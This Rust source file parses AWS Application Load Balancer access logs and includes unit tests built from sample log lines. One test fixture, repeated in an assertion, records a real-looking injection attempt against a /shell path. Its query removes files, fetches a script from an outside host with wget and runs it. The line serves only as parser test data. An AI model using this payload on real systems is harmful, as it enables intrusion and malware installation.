//! AWS Application Load Balancer access logs (what the AWS Load Balancer Controller's Ingresses
//! write to S3), fields in AWS's order:
//!
//! `type time elb client:port target:port request_processing_time target_processing_time
//! response_processing_time elb_status_code target_status_code received_bytes sent_bytes
//! "request" "user_agent" ssl_cipher ssl_protocol target_group_arn "trace_id" "domain_name"
//! "chosen_cert_arn" matched_rule_priority request_creation_time "actions_executed"
//! "redirect_url" "error_reason" "target:port_list" "target_status_code_list" "classification"
//! "classification_reason" conn_trace_id ...`
//!
//! Fields are separated by spaces but quoted ones may contain spaces (ALB logs the request line
//! as received, so `"GET http://h/a b HTTP/1.1"` happens), hence a quote-aware cursor. AWS
//! appends fields over time: unknown trailing fields are ignored, and fields after `trace_id`
//! may be missing in older logs. The request carries an absolute URL; `-1` processing times mean
//! the request never reached a target.

use std::borrow::Cow;

use crate::format::Malformed;
use crate::format::field_values::{host_path_and_query, ip_with_port};
use crate::format::tokens::{Cursor, unset_to_none};
use crate::record::{Record, UpstreamKind};
use crate::time::{TimeCache, rfc3339};

/// The `type` values of ALB lines (NLB and Classic ELB lines start otherwise).
const TYPES: [&str; 6] = ["http", "https", "h2", "grpcs", "ws", "wss"];

/// Parses one line.
pub(crate) fn parse<'a>(line: &'a str, _clock: &mut TimeCache) -> Result<Record<'a>, Malformed> {
    let mut cursor = Cursor::new(line);
    let kind = cursor.word().ok_or(Malformed::new("empty line"))?;
    if !TYPES.contains(&kind) {
        return Err(Malformed::new("first field is not an ALB request type"));
    }
    let time = cursor.word().ok_or(Malformed::new("no time"))?;
    let time_us = rfc3339(time).ok_or(Malformed::new("time is not ISO 8601"))?;
    let _elb = cursor.word().ok_or(Malformed::new("no load balancer id"))?;
    let client = cursor.word().ok_or(Malformed::new("no client"))?;
    let target = cursor.word().ok_or(Malformed::new("no target"))?;
    let request_seconds = processing_time(cursor.word())?;
    let target_word = cursor.word();
    let target_seconds = processing_time(target_word)?;
    let response_seconds = processing_time(cursor.word())?;
    let elb_status = status(cursor.word())?;
    let target_status = cursor.word().ok_or(Malformed::new("no target status"))?;
    let _received_bytes = count(cursor.word())?;
    let sent_bytes = count(cursor.word())?;
    let request = cursor.quoted().ok_or(Malformed::new("no quoted request"))?;
    let user_agent = cursor
        .quoted()
        .ok_or(Malformed::new("no quoted user agent"))?;
    let _ssl_cipher = cursor.word().ok_or(Malformed::new("no ssl cipher"))?;
    let _ssl_protocol = cursor.word().ok_or(Malformed::new("no ssl protocol"))?;
    let target_group = unset_to_none(cursor.word().ok_or(Malformed::new("no target group"))?);
    let trace_id = cursor
        .quoted()
        .ok_or(Malformed::new("no quoted trace id"))?;

    // Fields added since 2017, by position; absent in older lines.
    let mut later = [None; 11];
    for slot in &mut later {
        if cursor.is_done() {
            break;
        }
        *slot = Some(field(&mut cursor)?);
    }
    let [
        domain_name,
        _chosen_cert,
        _rule_priority,
        _request_creation_time,
        _actions,
        _redirect_url,
        error_reason,
        _targets,
        _target_statuses,
        classification,
        _classification_reason,
    ] = later.map(|value| value.and_then(unset_to_none));

    let (method, url, protocol) = request_parts(request);
    let [url_host, path, query] = match url {
        // A malformed request is logged as `"- http://host:80- "`: only its host means anything.
        Some(url) if method.is_none() => [host_path_and_query(url)[0], None, None],
        Some(url) => host_path_and_query(url),
        None => [None, None, None],
    };
    let protocol = protocol.filter(|_| method.is_some());
    // ALB writes the URL's host from the Host header, which its listener rules match; the SNI
    // name (`domain_name`) only stands in when the request had no usable URL.
    let host = url_host.or(domain_name);

    let request_time = match [request_seconds, target_seconds, response_seconds] {
        [Some(a), Some(b), Some(c)] => Some(a + b + c),
        _ => None,
    };
    Ok(Record {
        time_us: Some(time_us),
        client_ip: ip_with_port(client),
        remote_user: None,
        method: method.map(Cow::Borrowed),
        path: path.map(Cow::Borrowed),
        query: query.map(Cow::Borrowed),
        protocol: protocol.map(Cow::Borrowed),
        status: elb_status,
        bytes_sent: sent_bytes,
        referer: None,
        user_agent: unset_to_none(user_agent).map(Cow::Borrowed),
        host: host.map(Cow::Borrowed),
        upstream_name: target_group.map(Cow::Borrowed),
        upstream_kind: if target_group.is_some() {
            UpstreamKind::AlbTargetGroup
        } else {
            UpstreamKind::None
        },
        upstream_addr: unset_to_none(target).map(Cow::Borrowed),
        upstream_status: unset_to_none(target_status).map(Cow::Borrowed),
        request_time,
        // The time the target took to answer, as logged: what other formats call the upstream
        // response time.
        upstream_response_time: target_word
            .filter(|_| target_seconds.is_some())
            .map(Cow::Borrowed),
        request_id: unset_to_none(trace_id).map(Cow::Borrowed),
        proxy_flags: error_reason.or(classification).map(Cow::Borrowed),
    })
}

/// `METHOD URL PROTOCOL` into its three parts. The URL stays whole (query included) for
/// [`host_path_and_query`], and may contain spaces: ALB logs the request line as received.
fn request_parts(request: &str) -> (Option<&str>, Option<&str>, Option<&str>) {
    let Some((method, rest)) = request.split_once(' ') else {
        return (unset_to_none(request), None, None);
    };
    let (url, protocol) = match rest.rsplit_once(' ') {
        Some((url, protocol)) if protocol.starts_with("HTTP/") => (url, Some(protocol)),
        _ => (rest, None),
    };
    (unset_to_none(method), unset_to_none(url), protocol)
}

/// A field that may be quoted or bare.
fn field<'a>(cursor: &mut Cursor<'a>) -> Result<&'a str, Malformed> {
    if cursor.rest().starts_with('"') {
        cursor
            .quoted()
            .ok_or(Malformed::new("unterminated quoted field"))
    } else {
        cursor.word().ok_or(Malformed::new("missing field"))
    }
}

/// A processing time in seconds; `-1` (the step never happened) is `None`.
fn processing_time(word: Option<&str>) -> Result<Option<f64>, Malformed> {
    let word = word.ok_or(Malformed::new("missing processing time"))?;
    if word == "-1" {
        return Ok(None);
    }
    word.parse::<f64>()
        .ok()
        .filter(|seconds| seconds.is_finite() && *seconds >= 0.0)
        .map(Some)
        .ok_or(Malformed::new("processing time is not a number"))
}

/// A status code, `-` when the load balancer sent none.
fn status(word: Option<&str>) -> Result<Option<u16>, Malformed> {
    match word.ok_or(Malformed::new("no status"))? {
        "-" => Ok(None),
        word => word
            .parse::<u16>()
            .ok()
            .filter(|status| *status < 1000)
            .map(Some)
            .ok_or(Malformed::new("status is not a number")),
    }
}

/// A byte count, `-` when not known.
fn count(word: Option<&str>) -> Result<Option<u64>, Malformed> {
    match word.ok_or(Malformed::new("no byte count"))? {
        "-" => Ok(None),
        word => word
            .parse::<u64>()
            .map(Some)
            .map_err(|_| Malformed::new("byte count is not a number")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::format::field_values::tests::assert_no_panic;

    // elastic/integrations `packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log`.
    /// A forwarded request with every field up to `classification_reason`.
    const FORWARDED: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#;
    /// A redirect never sent to a target, with a space inside the URI (the research notes'
    /// sample).
    const SPACE_IN_URI: &str = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
    /// A malformed request (`"- http://host:80- "`) with `conn_trace_id` at the end.
    const MALFORMED_REQUEST: &str = r#"http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000"#;
    /// allinurl/goaccess issue #2557: an HTTP/2 request from an IPv6 client, which ALB writes
    /// unbracketed with the port after the last `:`.
    const IPV6_CLIENT: &str = r#"h2 2023-09-10T23:55:00.361692Z app/I8YR24BIAN4K/6378464905b0814a 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.0:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding HTTP/2.0" "3.20.0 (Build/1900005469; Android 33; samsung; SM-G781B) okhttp/4.11.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af "Root=1-64fe5754-33ecd7461b3736944677bb97" "api.foo.bar.nl" "session-reused" 11 2023-09-10T23:55:00.358000Z "forward" "-" "-" "10.0.100.2:80" "401" "-" "-""#;
    /// A target error with an error reason and fields AWS added in 2025 (constructed).
    const TARGET_ERROR: &str = r#"https 2025-06-01T12:00:00.000001Z app/k8s-shop-web-1a2b3c/0123456789abcdef [2001:db8::42]:50123 10.0.3.9:8080 0.001 -1 -1 502 - 120 293 "POST https://shop.example.com:443/checkout?step=2 HTTP/1.1" "Mozilla/5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/k8s-shop-web-5f6a7b8c9d/0123456789abcdef "Root=1-6838ae00-0123456789abcdef01234567" "shop.example.com" "arn:aws:acm:us-east-1:123456789012:certificate/abc" 10 2025-06-01T11:59:59.990000Z "forward" "-" "TargetConnectionErrorCode" "10.0.3.9:8080" "-" "-" "-" TID_0123 "-" "-" "-" "future-field""#;

    const SAMPLES: &[&str] = &[
        FORWARDED,
        SPACE_IN_URI,
        MALFORMED_REQUEST,
        IPV6_CLIENT,
        TARGET_ERROR,
    ];

    fn parsed(line: &str) -> Record<'_> {
        parse(line, &mut TimeCache::new()).unwrap_or_else(|error| panic!("{error}: {line}"))
    }

    fn text(value: &str) -> Option<Cow<'_, str>> {
        Some(Cow::Borrowed(value))
    }

    #[test]
    fn forwarded_request() {
        assert_eq!(
            parsed(FORWARDED),
            Record {
                time_us: rfc3339("2018-07-02T22:23:00.186641Z"),
                client_ip: "192.168.131.39".parse().ok(),
                method: text("GET"),
                path: text("/"),
                protocol: text("HTTP/1.1"),
                status: Some(200),
                bytes_sent: Some(366),
                user_agent: text("curl/7.46.0"),
                host: text("www.example.com"),
                upstream_name: text(
                    "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
                ),
                upstream_kind: UpstreamKind::AlbTargetGroup,
                upstream_addr: text("10.0.0.1:80"),
                upstream_status: text("200"),
                request_time: Some(0.001),
                upstream_response_time: text("0.001"),
                request_id: text("Root=1-58337262-36d228ad5d99923122bbe354"),
                ..Record::default()
            }
        );
    }

    #[test]
    fn space_inside_the_uri_and_minus_one_times() {
        assert_eq!(
            parsed(SPACE_IN_URI),
            Record {
                time_us: rfc3339("2022-05-12T06:41:29.051646Z"),
                client_ip: "67.43.156.20".parse().ok(),
                method: text("GET"),
                path: text("/shell"),
                query: text("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"),
                protocol: text("HTTP/1.1"),
                status: Some(301),
                bytes_sent: Some(390),
                user_agent: text("Hello, world"),
                host: text("127.0.0.1"),
                request_id: text("Root=1-627cac19-4c6df30820daa80e3fd72ced"),
                proxy_flags: text("Acceptable"),
                ..Record::default()
            }
        );
    }

    #[test]
    fn malformed_requests_keep_only_their_host() {
        assert_eq!(
            parsed(MALFORMED_REQUEST),
            Record {
                time_us: rfc3339("2025-05-01T11:24:32.748149Z"),
                client_ip: "127.0.0.1".parse().ok(),
                status: Some(200),
                bytes_sent: Some(272),
                host: text("internal-service-alb.example.com"),
                ..Record::default()
            }
        );
    }

    #[test]
    fn unbracketed_ipv6_clients() {
        let record = parsed(IPV6_CLIENT);
        assert_eq!(
            record.client_ip,
            "2a02:a33c:4538:1:bcf4:5264:e01c:f215".parse().ok()
        );
        assert_eq!(record.protocol, text("HTTP/2.0"));
        assert_eq!(record.host, text("api.foo.bar.nl"));
        assert_eq!(record.path, text("/api/v1/alerts/me/outstanding"));
        assert_eq!(record.status, Some(401));
        assert_eq!(record.upstream_status, text("401"));
        assert_eq!(record.bytes_sent, Some(805));
        assert_eq!(record.request_time, Some(0.003));
        assert_eq!(
            record.upstream_name,
            text("arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af")
        );
    }

    #[test]
    fn error_reason_is_the_verdict_and_new_fields_are_ignored() {
        assert_eq!(
            parsed(TARGET_ERROR),
            Record {
                time_us: rfc3339("2025-06-01T12:00:00.000001Z"),
                client_ip: "2001:db8::42".parse().ok(),
                method: text("POST"),
                path: text("/checkout"),
                query: text("step=2"),
                protocol: text("HTTP/1.1"),
                status: Some(502),
                bytes_sent: Some(293),
                user_agent: text("Mozilla/5.0"),
                host: text("shop.example.com"),
                upstream_name: text(
                    "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/k8s-shop-web-5f6a7b8c9d/0123456789abcdef"
                ),
                upstream_kind: UpstreamKind::AlbTargetGroup,
                upstream_addr: text("10.0.3.9:8080"),
                request_id: text("Root=1-6838ae00-0123456789abcdef01234567"),
                proxy_flags: text("TargetConnectionErrorCode"),
                ..Record::default()
            }
        );
    }

    #[test]
    fn lines_ending_after_the_trace_id_are_older_alb_lines() {
        let end = FORWARDED.find(r#" "-" "-" 0 "#).unwrap();
        let record = parsed(&FORWARDED[..end]);
        assert_eq!(record.status, Some(200));
        assert_eq!(record.host, text("www.example.com"));
        assert_eq!(record.proxy_flags, None);
    }

    #[test]
    fn other_formats_are_rejected() {
        for line in [
            // NLB and its TLS log, a Classic ELB line, and the other formats.
            r#"tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30"#,
            r#"2015-06-29T18:20:58.072335Z MY-ELB 2601:240:4002:5883:b5f3:aaaa:bbbb:64ec:53016 10.12.34.56:80 0.000052 0.006129 0.000037 200 200 0 0 "GET https://www.example.com/ HTTP/1.1" "Mozilla/5.0" ECDHE-RSA-AES128-SHA256 TLSv1.2"#,
            r#"192.168.64.1 - - [07/Feb/2020:11:48:51 +0000] "POST /products HTTP/1.1" 200 59 "-" "curl/7.54.0""#,
            r#"[2019-04-11T00:31:55.439Z] "GET /elastic HTTP/1.1" 404 NR 0 0 0 - "172.17.0.3" "curl/7.59.0" "58436667" "192.168.99.107:30901" "-""#,
            r#"{"httpRequest":{"requestMethod":"GET","status":304},"timestamp":"2020-06-08T23:41:30.078651Z"}"#,
            "http",
            "",
        ] {
            assert!(parse(line, &mut TimeCache::new()).is_err(), "{line}");
        }
    }

    #[test]
    fn truncated_and_broken_lines_are_rejected() {
        for line in [
            &FORWARDED[..FORWARDED.find(" \"GET").unwrap()],
            &FORWARDED[..FORWARDED.find("HTTP/1.1").unwrap()],
            &FORWARDED[..FORWARDED.find(" arn:").unwrap()],
            &FORWARDED[..FORWARDED.find("Root=").unwrap()],
            &SPACE_IN_URI[..SPACE_IN_URI.len() - 3],
            r#"http 2018-07-02T22:23:00Z app/x/1 1.2.3.4:1 - 0.000 abc 0.000 200 200 34 366 "GET / HTTP/1.1" "-" - - - "-""#,
            r#"http 2018-07-02T22:23:00Z app/x/1 1.2.3.4:1 - 0.000 0.000 0.000 2OO 200 34 366 "GET / HTTP/1.1" "-" - - - "-""#,
            r#"http yesterday app/x/1 1.2.3.4:1 - 0.000 0.000 0.000 200 200 34 366 "GET / HTTP/1.1" "-" - - - "-""#,
        ] {
            assert!(parse(line, &mut TimeCache::new()).is_err(), "{line}");
        }
    }

    #[test]
    fn no_input_makes_it_panic() {
        assert_no_panic(parse, SAMPLES);
    }
}
